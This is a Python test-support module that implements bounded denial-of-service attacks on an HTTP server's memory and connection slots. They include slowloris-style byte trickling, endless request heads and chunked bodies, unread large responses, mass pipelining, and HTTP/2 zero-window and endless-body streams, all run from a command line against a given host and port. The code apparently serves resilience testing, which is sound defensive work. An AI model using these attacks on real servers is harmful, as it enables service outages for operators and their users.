"""Attacks on a server's memory and connection slots. Each kind is bounded in number and time, and ends by itself.

On the command line: `PYTHONPATH=tests python -m support.attacks unread 127.0.0.1 8000 --seconds 60 --addresses 10`.
"""

import argparse
import asyncio
import contextlib
import itertools
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

BIG = "/docs-assets/swagger-ui-bundle.js"
SMALLEST_BUFFER = 2048
REPLACED_AFTER_S = 0.2
CONNECT_LIMIT_S = 5.0
TRICKLE_S = 1.0
HEADERS = "Host: x\r\nAccept-Encoding: identity\r\n"


class Attack:
    """One attack on a server: for how many seconds, from how many addresses, with how many connections each.

    `happened` counts its connections that were opened, refused, or ended by the server.
    """

    def __init__(self, host: str, port: int, seconds: float, addresses: int = 1, connections: int = 100) -> None:
        self.host, self.port = host, port
        self.seconds, self.addresses, self.connections = seconds, addresses, connections
        self.happened: Counter[str] = Counter()
        self.ends_at = 0.0

    async def run(self, kind: str) -> None:
        """Keep all connections open until the time is over. A connection that has ended is replaced."""
        self.ends_at = time.monotonic() + self.seconds
        waiting = max(1.0, self.seconds)
        workers = [
            asyncio.create_task(self._keep(KINDS[kind], f"127.0.0.{2 + address}"))
            for address in range(self.addresses)
            for _ in range(self.connections)
        ]
        await asyncio.wait(workers, timeout=waiting)
        for worker in workers:
            worker.cancel()
        for done in await asyncio.gather(*workers, return_exceptions=True):
            if isinstance(done, Exception):
                raise done

    async def _keep(self, act: "Act", address: str) -> None:
        await asyncio.sleep(REPLACED_AFTER_S * hash((address, id(asyncio.current_task()))) % 1)
        while time.monotonic() < self.ends_at:
            with contextlib.suppress(OSError), self._connected(address) as connection:
                await asyncio.wait_for(
                    asyncio.get_running_loop().sock_connect(connection, (self.host, self.port)), CONNECT_LIMIT_S
                )
                self.happened["opened"] += 1
                await act(self, connection)
            self.happened["ended"] += 1
            await asyncio.sleep(REPLACED_AFTER_S)

    @contextlib.contextmanager
    def _connected(self, address: str) -> Iterator[socket.socket]:
        with socket.socket() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALLEST_BUFFER)
            connection.setblocking(False)
            if self.host.startswith("127."):
                connection.bind((address, 0))
            yield connection


Act = Callable[[Attack, socket.socket], Awaitable[None]]


async def _send(connection: socket.socket, data: bytes) -> None:
    await asyncio.get_running_loop().sock_sendall(connection, data)


async def _receive(connection: socket.socket, size: int) -> bytes:
    """Receive some bytes.

    Raises:
        OSError: the connection has ended.
    """
    data = await asyncio.get_running_loop().sock_recv(connection, size)
    if not data:
        raise ConnectionAbortedError
    return data


async def _is_there(connection: socket.socket) -> None:
    """Wait for the end of a connection without reading from it.

    Raises:
        OSError: the connection has ended.
    """
    while True:
        await asyncio.sleep(TRICKLE_S)
        if failed := connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            raise OSError(failed, "ended by the other side")


async def unread(attack: Attack, connection: socket.socket) -> None:
    """Request a large file, and read nothing of it."""
    await _send(connection, f"GET {BIG} HTTP/1.1\r\n{HEADERS}\r\n".encode())
    await _is_there(connection)


async def trickle(attack: Attack, connection: socket.socket) -> None:
    """Request a large file, and read a byte of it each second."""
    await _send(connection, f"GET {BIG} HTTP/1.1\r\n{HEADERS}\r\n".encode())
    while True:
        await _receive(connection, 1)
        await asyncio.sleep(TRICKLE_S)


async def pipeline(attack: Attack, connection: socket.socket) -> None:
    """Send thousands of requests at once, and read no response."""
    request = f"GET /api/status HTTP/1.1\r\n{HEADERS}\r\n".encode()
    await _send(connection, request * 5000)
    await _is_there(connection)


async def answers(attack: Attack, connection: socket.socket) -> None:
    """Keep requesting resources that the server computes for each request, and read no response."""
    for number in itertools.count():
        path = ("/openapi.json", "/api/symbols?q=USDT", "/api/history/BTC", "/metrics", "/docs")[number % 5]
        await _send(connection, f"GET {path} HTTP/1.1\r\n{HEADERS}\r\n".encode())
        await asyncio.sleep(TRICKLE_S / 4)


async def crawl(attack: Attack, connection: socket.socket) -> None:
    """Send a request's head a byte at a time."""
    for byte in itertools.chain(b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: ", itertools.repeat(ord("x"))):
        await _send(connection, bytes([byte]))
        await asyncio.sleep(TRICKLE_S)


async def head(attack: Attack, connection: socket.socket) -> None:
    """Send an endless head, as fast as the server takes it."""
    await _send(connection, b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: ")
    while True:
        await _send(connection, b"x" * 65_536)
        await asyncio.sleep(REPLACED_AFTER_S)


async def body(attack: Attack, connection: socket.socket) -> None:
    """Send an endless body slowly, with a request that needs no body."""
    await _send(connection, f"GET /api/status HTTP/1.1\r\n{HEADERS}Transfer-Encoding: chunked\r\n\r\n".encode())
    while True:
        await _send(connection, b"400\r\n" + b"x" * 0x400 + b"\r\n")
        await asyncio.sleep(TRICKLE_S)


async def idle(attack: Attack, connection: socket.socket) -> None:
    """Connect, and send nothing."""
    await _receive(connection, 1)


async def half(attack: Attack, connection: socket.socket) -> None:
    """Send a request and read the response, then send half of another request."""
    await _send(connection, f"GET /livez HTTP/1.1\r\n{HEADERS}\r\nGET /li".encode())
    while True:
        await _receive(connection, 4096)


async def h2_unread(attack: Attack, connection: socket.socket) -> None:
    """Request a large file a hundred times over one HTTP/2 connection, with a flow control window of 0 for each response."""
    await _h2(connection, BIG, ends=True)


async def h2_body(attack: Attack, connection: socket.socket) -> None:
    """Send a hundred requests with endless bodies over one HTTP/2 connection, without announcing any body."""
    await _h2(connection, "/api/status", ends=False)


async def _h2(connection: socket.socket, path: str, *, ends: bool, requests: int = 100, every_s: float = 0.3) -> None:
    far = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
    far.local_settings = h2.settings.Settings(
        client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0 if ends else 65_535}
    )
    far.initiate_connection()
    await _send(connection, far.data_to_send())
    reading = asyncio.create_task(_read_h2(connection, far))
    try:
        for _ in range(requests):
            head = [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", "x")]
            far.send_headers(far.get_next_available_stream_id(), head, end_stream=ends)
            await _send(connection, far.data_to_send())
            await asyncio.wait({reading}, timeout=every_s)
            if reading.done():
                break
        await reading
    except h2.exceptions.ProtocolError:  # more streams than the server allows at a time, or the connection's end
        raise ConnectionAbortedError from None
    finally:
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)


async def _read_h2(connection: socket.socket, far: h2.connection.H2Connection) -> None:
    while True:
        for event in far.receive_data(await _receive(connection, 65_536)):
            if isinstance(event, h2.events.ConnectionTerminated):
                raise ConnectionAbortedError
        await _send(connection, far.data_to_send())


KINDS: dict[str, Act] = {
    act.__name__: act for act in (unread, trickle, pipeline, answers, crawl, head, body, idle, half, h2_unread, h2_body)
}


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("kind", choices=KINDS)
    options.add_argument("host")
    options.add_argument("port", type=int)
    options.add_argument("--seconds", type=float, default=60)
    options.add_argument("--addresses", type=int, default=1)
    options.add_argument("--connections", type=int, default=100)
    asked = options.parse_args()
    attack = Attack(asked.host, asked.port, asked.seconds, asked.addresses, asked.connections)
    asyncio.run(attack.run(asked.kind))
    print(dict(attack.happened))


if __name__ == "__main__":
    main()
